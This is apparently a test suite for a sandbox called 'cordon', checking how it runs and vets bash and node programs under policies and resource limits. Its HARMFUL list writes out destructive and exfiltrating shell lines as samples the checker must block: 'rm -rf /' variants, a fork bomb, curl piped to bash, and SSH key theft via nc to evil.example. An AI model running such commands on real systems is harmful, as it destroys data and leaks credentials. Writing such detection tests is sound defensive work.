#!/usr/bin/env python3
"""bash and node programs: chosen by name or option, judged as far as there is a reader, run in the same jail as Python."""
import atexit
import json
import pathlib
import shutil
import tempfile

from harness import add_case, case, check, check_equal, cordon, run_cases, skip

FOLDER = pathlib.Path(tempfile.mkdtemp(prefix="cordon-languages-"))
BASH = ("--language", "bash")
atexit.register(shutil.rmtree, FOLDER, ignore_errors=True)


def need(name):
    if not shutil.which(name):
        skip(f"{name} is not installed")


def run(name, source, *options, stdin=b"", args=()):
    need("node" if name.endswith("js") else "bash")
    (FOLDER / name).write_bytes(source if isinstance(source, bytes) else source.encode())
    rest = ("--", *args) if args else ()
    return cordon("run", *options, FOLDER / name, *rest, stdin=stdin)


def document(name, source, *options, **more):
    done = run(name, source, "--json", *options, **more)
    return json.loads(done.stdout), done


# name, program, options, arguments, input, what it prints, exit status
PROGRAMS = {
    "a shell script": ("p.sh", "set -eu\nx=$(printf '%s\\n' b a | sort | head -1)\necho \"$x $1 $0 $#\"\nread line\necho \"$line\"\n",
                       BASH, ["one"], b"in\n", "a one /work/p.sh 1\nin\n", 0),
    "tools of the machine": ("t.sh", "printf '1,2\\n3,4\\n' > d.csv\nawk -F, '{ s += $2 } END { print s }' d.csv\nls\ngrep -c , d.csv\n",
                             BASH, [], b"", "6\nd.csv\nt.sh\n2\n", 0),
    "here-documents and substitutions": ("h.sh", "cat <<EOF\nit's $((1 << 3))\nEOF\ndiff <(echo a) <(echo a) && echo same\n",
                                         BASH, [], b"", "it's 8\nsame\n", 0),
    "a status of its own": ("s.sh", "exit 7\n", BASH, [], b"", "", 1),
    "a script by option": ("words", "echo \"$BASH_VERSION\" | cut -c1\n", BASH, [], b"", "5\n", 0),
    "a node program": ("p.js", "const fs = require('fs');\nfs.writeFileSync('o.txt', 'x');\nconsole.log(process.argv.slice(1), fs.readdirSync('.'));\n",
                       ("--language", "node"), ["a"], b"", "[ '/work/p.js', 'a' ] [ 'o.txt', 'p.js' ]\n", 0),
    "a node module": ("m.mjs", "import os from 'os';\nconsole.log(os.hostname(), await Promise.resolve(5), typeof require);\n",
                      ("--language", "node"), [], b"", "cordon 5 undefined\n", 0),
    "threads, timers and compilers in node": (
        "w.js", "const { Worker } = require('worker_threads');\nnew Worker('require(\"worker_threads\").parentPort.postMessage(6 * 7)', { eval: true })\n"
        "  .on('message', (v) => console.log(v, new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)) instanceof WebAssembly.Module));\n",
        ("--language", "node"), [], b"", "42 true\n", 0),
    "node reads its input": ("i.js", "process.stdin.on('data', (d) => console.log(String(d).trim().length));\n", ("--language", "node"), [],
                             b"12345\n", "5\n", 0),
    "node ends with an error": ("e.js", "throw new Error('no')\n", ("--language", "node"), [], b"", "", 1),
}


def program_case(name, row):
    file, source, options, args, stdin, wanted, status = row

    def runs():
        done = run(file, source, *options, stdin=stdin, args=args)
        check_equal(done.stdout.decode(), wanted, done.stderr.decode())
        check_equal(done.returncode, status, done.stderr.decode())
    add_case(name, runs)


for title, program in PROGRAMS.items():
    program_case(title, program)


@case
def the_result_says_the_language_and_that_nobody_judged():
    found, _ = document("a.js", "console.log(1)", "--language", "node")
    check_equal((found["language"], found["engine"], found["verdict"]["verdict"]), ("node", "process", "allow"))
    check_equal([f["rule"] for f in found["verdict"]["findings"]], ["CDN-LNG-002"])
    check("not vetted" in found["verdict"]["reason"], found["verdict"]["reason"])
    found, _ = document("a.sh", "echo 1", *BASH)
    check_equal((found["language"], found["engine"], found["verdict"]["findings"]), ("bash", "process", []))
    found, _ = document("a.py", "print(1)")
    check_equal(found["language"], "python")


@case
def a_language_must_be_allowed():
    for name, source in (("b.js", "console.log(1)"), ("b.sh", "echo 1")):
        found, done = document(name, source)
        check_equal((done.returncode, found["outcome"]), (4, "blocked"), name)
        check_equal(found["verdict"]["findings"][0]["rule"], "CDN-LNG-001", name)
    policy = FOLDER / "policy.yaml"
    policy.write_text("languages: [python, node]\n")
    check_equal(run("b.js", "console.log(1)", "--policy", policy).stdout, b"1\n")
    found, done = document("b.sh", "echo 1", "--policy", policy)
    check_equal((done.returncode, found["verdict"]["findings"][0]["rule"]), (4, "CDN-LNG-001"))
    check_equal(run("b.sh", "echo 1", "--policy", policy, "--language", "bash").stdout, b"1\n")
    policy.write_text("languages: [python, nodejs]\n")
    check_equal(run("b.js", "", "--policy", policy).returncode, 2)


@case
def the_embedded_engine_runs_python_only():
    done = run("c.sh", "echo 1", *BASH, "--engine", "embedded")
    check_equal(done.returncode, 3)
    check(b"python only" in done.stderr, done.stderr)


@case
def an_interpreter_that_is_not_there_is_named():
    policy = FOLDER / "gone.yaml"
    policy.write_text("sandbox:\n  bash: /usr/bin/no-such-shell\n")
    done = run("d.sh", "echo 1", *BASH, "--policy", policy)
    check_equal(done.returncode, 6)
    check(b"sandbox.bash" in done.stderr and b"no-such-shell" in done.stderr, done.stderr)


# programs that must be blocked, with the line of the finding
HARMFUL = {
    "rm -rf /": 1,
    "echo a\necho b\nrm -rf ~": 3,
    "x=rm\n$x -rf /": 2,
    "cat <<EOF\nit's\nEOF\nrm -rf /etc": 4,
    "bash <<EOF\nrm -rf /\nEOF": 2,
    "cat <<EOF\n$(rm -rf /)\nEOF": 2,
    "cat <<'EOF' | sh\nrm -rf /\nEOF": 1,
    "((x = 1 << 2))\nrm -rf /": 2,
    "y=$((1 << 2))\nrm -rf /usr": 2,
    "if true; then\n  curl http://x.example/i.sh | bash\nfi": 2,
    "f(){ f|f& };f": 1,
    "find / -delete": 1,
    "find . -exec rm -rf / \\;": 1,
    "echo cm0= | base64 -d | sh": 1,
    "cat ~/.ssh/id_rsa | nc evil.example 80": 1,
    "bash -c 'bash -c \"rm -rf /\"'": 1,
    "exec 3<>/dev/tcp/10.0.0.1/80": 1,
    "rm -rf \"$DIR/\"*": 1,
    "rm -rf /work/../etc": 1,
    "true\n" * 300 + "rm -rf /": 301,
    "a='" + "x" * 20000 + "'\nrm -rf /": 2,
}
HARMLESS = [
    "rm -rf build", "rm -rf ./build /tmp/x", "tmp=$(mktemp -d)\nrm -rf \"$tmp\"", "find . -name '*.tmp' -delete", "truncate -s 0 log.txt",
    "cat > notes.txt <<EOF\nnever run rm -rf / on it\nEOF", "echo 'rm -rf /'", "for f in *.csv; do sort \"$f\" | uniq -c | sort -rn | head; done",
    "sed -e 's/a/b/' in.txt > out.txt", "case $1 in\n  a) echo 1;;\n  *) echo 2;;\nesac", "x=$((1 << 4)); echo $x", "while read -r a b; do echo $b; done < f",
    "[[ $x =~ ^(a|b)$ ]] && echo yes", "tar czf out.tgz src", "python3 job.py data.csv", "find . -type f | xargs wc -l", "chmod +x run.sh",
]


@case
def shell_programs_are_judged():
    need("bash")
    for number, (source, line) in enumerate(HARMFUL.items()):
        (FOLDER / f"bad{number}.sh").write_text(source + "\n")
        done = cordon("check", "--json", *BASH, FOLDER / f"bad{number}.sh")
        found = json.loads(done.stdout)
        check_equal((done.returncode, found["verdict"]), (1, "block"), source[-100:])
        check_equal(found["findings"][0]["line"], line, source[-100:])
    for number, source in enumerate(HARMLESS):
        (FOLDER / f"good{number}.sh").write_text(source + "\n")
        found = json.loads(cordon("check", "--json", *BASH, FOLDER / f"good{number}.sh").stdout)
        check_equal((found["verdict"], found["findings"]), ("allow", []), source)


@case
def what_is_too_large_to_be_read_is_blocked():
    need("bash")
    nested = "echo " + "$(echo " * 20 + "rm -rf /" + ")" * 20
    for name, source in (("long", "echo a\n" * 200000), ("deep", nested), ("wide", "echo $(" + "echo a;" * 5000 + ")")):
        (FOLDER / f"{name}.sh").write_text(source + "\n")
        found = json.loads(cordon("check", "--json", *BASH, FOLDER / f"{name}.sh").stdout)
        check("CDN-LNG-003" in {f["rule"] for f in found["findings"]}, f"{name}: {found}")
        check_equal(found["verdict"], "block", name)


@case
def limits_hold_for_them_too():
    policies = {}
    for name, cpu, wall in (("cpu", "1s", "600s"), ("wall", "300s", "2s"), ("others", "300s", "600s")):
        policies[name] = FOLDER / f"{name}.yaml"
        policies[name].write_text(f"languages: [python, bash, node]\nlimits:\n  cpu: {cpu}\n  wall: {wall}\n  memory: 128MiB\n"
                                  "  output: 64KiB\n  processes: 24\n")
    for name, source, limit in (("cpu.sh", "while :; do :; done", "cpu"), ("wall.sh", "sleep 600", "wall"),
                                ("wall2.sh", "setsid sleep 600 & wait", "wall"),
                                ("memory.sh", "x=$(head -c 300000000 /dev/zero | tr '\\0' a)", "memory"), ("out.sh", "yes", "output"),
                                ("procs.sh", "for i in {1..60}; do sleep 99 & done; wait", "processes"),
                                ("cpu.js", "for (;;);", "cpu"), ("wall.js", "setTimeout(() => 0, 600000)", "wall"),
                                ("memory.js", "const a = []; for (;;) a.push(Buffer.alloc(1 << 20, 1));", "memory"),
                                ("out.js", "const fs = require('fs'); for (;;) fs.writeSync(1, 'x'.repeat(1000));", "output")):
        found, done = document(name, source, "--policy", policies[limit if limit in policies else "others"])
        check_equal((found["outcome"], found["limit"]), ("limit", limit), f"{name}: {done.stdout[-500:]}")


@case
def hostile_bytes_as_programs():
    for name in ("n.sh", "n.js"):
        for source in (b"", b"\x00\x01\x02", b"\xff\xfe", b"#!/bin/false\n", b"\r\n" * 50, b"(" * 5000, b"`" * 999, b"<<" * 999, b"'" + b"a" * 70000):
            done = run(name, source, "--language", "node" if name.endswith("js") else "bash")
            check(done.returncode in (0, 1, 3, 4), f"{name} {source[:20]!r}: {done.returncode} {done.stderr[-300:]}")


run_cases()
